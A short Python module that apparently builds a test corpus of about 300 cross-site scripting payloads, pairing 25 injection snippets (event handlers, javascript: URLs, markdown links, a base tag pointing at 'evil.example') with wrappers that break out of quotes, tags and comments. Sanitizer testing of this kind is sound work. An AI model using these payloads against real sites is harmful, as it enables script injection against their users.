"""300 ways to write a script where words are asked for."""

from itertools import product

SCRIPTS = [
    "<script>alert(1)</script>",
    "<script src=data:,alert(1)></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a href=javascript:alert(1)><text>x</text></a></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html,alert(1))",
    "<javascript:alert(1)>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<style>@import 'data:,x'</style>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p style=color:red onclick=alert(1)>x</p>",
    "<link rel=stylesheet href=data:,x>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
]
AROUND = [
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title>{}",
    "</script>{}",
    "-->{}",
    "<!--{}",
    "**{}**",
    "# {}",
    "- {}",
    "{}\u202e",
]
PAYLOADS = [around.format(script) for around, script in product(AROUND, SCRIPTS)]
